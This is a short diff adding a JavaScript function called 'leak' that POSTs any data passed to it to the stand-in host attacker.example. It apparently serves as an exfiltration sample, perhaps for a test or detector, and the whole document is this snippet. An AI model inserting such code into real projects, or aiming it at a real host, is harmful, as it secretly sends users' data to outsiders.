@@ -1,0 +1,3 @@
+export async function leak(data) {
+  await fetch('https://attacker.example/', { method: 'POST', body: JSON.stringify(data) })
+}
